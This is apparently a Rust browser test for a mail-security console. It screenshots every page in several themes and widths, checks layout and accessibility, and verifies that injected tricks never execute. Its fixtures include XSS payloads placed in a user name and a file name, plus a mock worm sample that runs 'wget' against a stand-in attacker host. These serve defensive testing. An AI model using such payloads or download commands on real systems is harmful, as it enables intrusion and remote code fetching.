//! Opens every page of the console in a browser: takes pictures in light and dark colours and on a telephone, and checks that no trick was
//! executed, that nothing is wider than the screen, and that axe-core finds no barrier. A page that is added to the router but not here
//! fails the test.

use super::browser::Browser;
use super::{Flood, INBOUND, TRICKS, accessible, album, attacks_by_mail, logged_in, nothing_ran, outbreak, plugins};
use crate::control::gate::{Site, wait_for};
use crate::letters::link_in;
use std::path::Path;
use std::process::Command;

/// With this setting, notices contain a link to the user's own page.
const LINKS: &str = "[notices]\nlink = \"https://console.example.org\"\n";

/// Routes that are not pages: streams, files, what programs request, and redirects to other sites.
const NO_PAGES: [&str; 9] = [
    "/live",
    "/login/oidc",
    "/login/oidc/callback",
    "/style.css",
    "/console.js",
    "/icon.svg",
    "/healthz",
    "/readyz",
    "/metrics",
];

/// Finds ordinary words that are broken over two lines in headings, tables, buttons, labels, states and links of the menu. Hashes,
/// addresses and other texts that are not words may break.
const BROKEN: &str = "
const broken = [];
for (const place of document.querySelectorAll('h2, th, td, button, summary, label, dt, nav a, .status')) {
  const texts = document.createTreeWalker(place, NodeFilter.SHOW_TEXT);
  for (let text = texts.nextNode(); text; text = texts.nextNode()) {
    if (text.parentElement.closest('code, pre, .hash')) continue;
    for (const found of text.data.matchAll(/(?<![^\\s])[A-Za-z]{2,16}(?![^\\s.,:;…?])/g)) {
      const word = document.createRange();
      word.setStart(text, found.index);
      word.setEnd(text, found.index + found[0].length);
      if (new Set([...word.getClientRects()].map((line) => Math.round(line.top))).size > 1) broken.push(found[0]);
    }
  }
}
return broken";

/// Every address that can be opened, as written in the router.
fn routes() -> Vec<String> {
    let source = include_str!("../../crates/weir-console/src/pages/mod.rs");
    let looked_at = |rest: &str| {
        let (path, method) = rest.trim_start().strip_prefix('"')?.split_once('"')?;
        let method = method.trim_start_matches(|letter: char| letter == ',' || letter.is_whitespace());
        method.starts_with("get(").then(|| path.to_owned())
    };
    source.split(".route(").skip(1).filter_map(looked_at).collect()
}

/// Whether the router sends this path to this route: `{x}` stands for one part of the path, `{*x}` for all that follow.
fn leads(route: &str, path: &str) -> bool {
    let path = path.split('?').next().unwrap_or_default();
    let (mut wanted, mut given) = (route.split('/'), path.split('/'));
    loop {
        match (wanted.next(), given.next()) {
            (None, None) => return true,
            (Some(rest), Some(_)) if rest.starts_with("{*") => return true,
            (Some(name), Some(piece)) if name.starts_with('{') && !piece.is_empty() => {}
            (Some(name), Some(piece)) if name == piece => {}
            _ => return false,
        }
    }
}

/// The pages that were opened, and what axe-core found on them.
#[derive(Default)]
struct Visited {
    paths: Vec<String>,
    barriers: Vec<String>,
}

impl Visited {
    /// Opens these pages in all looks. Each has a name for its pictures.
    fn all(&mut self, browser: &Browser, console: &str, pages: &[(&str, String)]) {
        for (name, path) in pages {
            for (look, width, dark) in
                [("light", 1440, false), ("dark", 1440, true), ("narrow", 390, false), ("narrow-dark", 360, true)]
            {
                browser.looks(width, dark);
                browser.goto(&format!("{console}{path}"));
                // The guide contains pictures of its own.
                if !path.starts_with("/docs/") {
                    nothing_ran(browser);
                }
                let status = browser.run("return performance.getEntriesByType('navigation')[0].responseStatus");
                assert_eq!(status, if *name == "nowhere" { 404 } else { 200 }, "{name}");
                browser.picture(&album().join(format!("{name}-{look}.png")));
                let wide =
                    browser.run("return document.documentElement.scrollWidth - document.documentElement.clientWidth");
                assert_eq!(wide, 0, "{name} is wider than {width} pixels");
                if width <= 390 {
                    let broken = browser.run(BROKEN);
                    assert_eq!(broken, serde_json::json!([]), "words of {name} are broken at {width} pixels");
                }
                if accessible::is_due(look) {
                    let found = accessible::barriers(browser);
                    self.barriers.extend(found.into_iter().map(|barrier| format!("{name}, {look}: {barrier}")));
                }
            }
            self.paths.push(path.clone());
        }
    }
}

/// Puts spam for the user `demo` into quarantine, with the recipient and reason that a spam filter would have given. Returns its id.
fn spam_to_demo(site: &Site) -> &'static str {
    const ID: &str = "38exdmxn6hex5qydvvez";
    let program = "
import sqlite3, sys
records = sqlite3.connect(sys.argv[1])
records.execute(\"insert into quarantine (message, place, relay, queue, fate, recipient, sender, subject, source, owner, origin, size, at, reason, decided_by) \"
                \"select ?, 0, relay, 'spam', 'held', 'demo@localhost', sender, subject, source, '', 'received', size, at, 'spam: score 20', '' \"
                \"from quarantine where subject = 'invoice'\", (sys.argv[2],))
records.commit()
";
    let mut python = Command::new("python3");
    let ran = python.args(["-c", program]).arg(site.data().join("records.db")).arg(ID).status();
    assert!(ran.expect("python3 is not installed: run `make setup`").success());
    let text = format!(
        "From: x@y.example\r\nSubject: {}\r\n\r\nthe text of the spam\r\n{}\r\n",
        TRICKS[1],
        TRICKS.join("\r\n")
    );
    std::fs::write(site.data().join(format!("quarantine/{ID}.eml")), text).expect("a mail");
    ID
}

#[test]
fn every_page_is_pictured_in_the_light_the_dark_and_on_a_telephone() {
    let plugins = plugins();
    let site = Site::new(&format!("{INBOUND}{LINKS}[lab]\nplugins = {:?}\n", plugins.path()));
    let up = site.up_with(&["--demo"]);
    site.weir(&["user", "set", "demo", "--contact", "contact@localhost", "--reads", "demo@localhost"]).ok();
    let (browser, console) = logged_in(&up, "admin", &up.admin_password());
    browser.says("Nothing needs you");
    browser.picture(&album().join("overview-quiet-light.png"));
    for name in ["ann@example.org", "bob@example.org", "<img/src=x/onerror=window.ran=40>"] {
        site.weir(&["user", "add", name, "--address", "x@localhost", "--generate"]).ok();
    }
    outbreak(&up);
    attacks_by_mail(&site, &up);
    let sample = site.home().join("invoice.sh");
    std::fs::write(&sample, "#!/bin/sh\necho hello\n").expect("a sample");
    let worm = site.home().join("<svg onload=window.ran=50>.sh");
    std::fs::write(&worm, "#!/bin/sh\n# a worm\nwget http://drop.evil.example/stage2\n").expect("a sample");
    let samples = [sample.as_path(), Path::new("/bin/true"), &worm].map(|file| file.to_str().expect("text"));
    site.weir(&[&["lab", "submit"], &samples[..]].concat()).ok();
    wait_for("the reports", || {
        let list = site.json(&["lab", "list"]);
        list.as_array()?.iter().all(|sample| !sample["ended_at"].is_null()).then_some(())
    });
    site.weir(&["scan", "rules", "add", "--sample", "3"]).ok();
    // The stream must keep the page current without reloading it.
    browser.goto(&console);
    assert!(!browser.text().contains("wait for the web servers"));
    browser.run("window.loaded = 'once'");
    browser.run("window.other = window.open('/web', 'other')");
    wait_for("the page of the web gate", || {
        let text = browser.run("return window.other.document.body ? window.other.document.body.innerText : ''");
        text.as_str()?.contains("No session has a request now").then_some(())
    });
    browser.run("window.other.loaded = 'once'");
    let flood = Flood::new(&up.listener("web"));
    browser.says("wait for the web servers, in fair order");
    assert_eq!(browser.run("return window.loaded"), "once");
    // All pages are kept current like this, and no part of a page contradicts another.
    wait_for("the flood on the page that was open before it", || {
        let text = browser.run("return window.other.document.body.innerText");
        let text = text.as_str()?;
        (text.contains("Sessions that ask now") && text.contains("Each session gets its share")).then_some(())
    });
    assert_eq!(browser.run("return window.other.loaded"), "once");
    browser.run("window.other.close()");
    let held = site.json(&["held", "list"]);
    let quarantined = site.json(&["quarantine", "list"]);
    let held = held["messages"][3]["message"].as_str().expect("an id");
    let quarantined = quarantined["entries"][2]["message"].as_str().expect("an id");
    site.weir(&["senders", "block", "spam.example", "--about", TRICKS[2]]).ok();
    let mut visited = Visited::default();
    let pages = [
        ("overview", "/".to_owned()),
        ("incidents", "/incidents".to_owned()),
        ("incident", "/incidents/1".to_owned()),
        ("throttle", "/throttle".to_owned()),
        ("user", "/throttle/users/demo".to_owned()),
        ("held", format!("/throttle/held/{held}")),
        ("quarantine", "/quarantine".to_owned()),
        ("quarantined", format!("/quarantine/{quarantined}")),
        ("senders", "/senders".to_owned()),
        ("feeds", "/feeds".to_owned()),
        ("web", "/web".to_owned()),
        ("queue", "/queue".to_owned()),
        ("bans", "/bans".to_owned()),
        ("lab", "/lab".to_owned()),
        ("sample", "/lab/samples/1".to_owned()),
        ("sample-program", "/lab/samples/2".to_owned()),
        ("sample-malware", "/lab/samples/3".to_owned()),
        ("rules", "/rules".to_owned()),
        ("search", "/search?q=demo".to_owned()),
        ("trace", format!("/trace/{held}")),
        ("audit", "/audit".to_owned()),
        ("settings", "/settings".to_owned()),
        ("account", "/account".to_owned()),
        ("guide", "/docs".to_owned()),
        ("guide-found", "/docs?q=quarantine".to_owned()),
        ("guide-page", "/docs/console.md".to_owned()),
        ("nowhere", "/nowhere".to_owned()),
    ];
    visited.all(&browser, &console, &pages);
    flood.stop();
    // A user of the mail gate sees only what is their own.
    let spam = spam_to_demo(&site);
    let (own, _) = logged_in(&up, "demo", &up.password());
    own.says("Your mail");
    let pages = [
        ("mine", "/me".to_owned()),
        ("mine-spam", "/me/quarantine".to_owned()),
        ("mine-spam-mail", format!("/me/quarantine/{spam}")),
    ];
    visited.all(&own, &console, &pages);
    own.says("the text of the spam");
    own.goto(&format!("{console}/throttle"));
    own.says("This is not for the role user");
    drop(own);
    // The pages that everybody can see.
    let stranger = Browser::start();
    let key = link_in(&site, "contact@localhost", "was stopped at");
    visited.all(&stranger, &console, &[("login", "/login".to_owned()), ("link", format!("/link/{key}"))]);
    stranger.says("Look at the held mail of demo");
    drop(stranger);
    assert!(visited.barriers.is_empty(), "axe-core finds barriers:\n{}", visited.barriers.join("\n"));
    let routes = routes();
    let seen =
        |route: &&String| NO_PAGES.contains(&route.as_str()) || visited.paths.iter().any(|path| leads(route, path));
    let unseen: Vec<&String> = routes.iter().filter(|route| !seen(route)).collect();
    assert!(routes.len() > 30 && unseen.is_empty(), "no browser looks at {unseen:?}: name a page of each above");
    // When Weir is stopped, the open page says so.
    browser.looks(1280, false);
    browser.goto(&console);
    browser.find("#offline");
    up.kill();
    wait_for("the bar", || {
        let hidden = browser.run("return document.getElementById('offline').hidden");
        (hidden == false).then_some(())
    });
    browser.picture(&album().join("offline-light.png"));
}
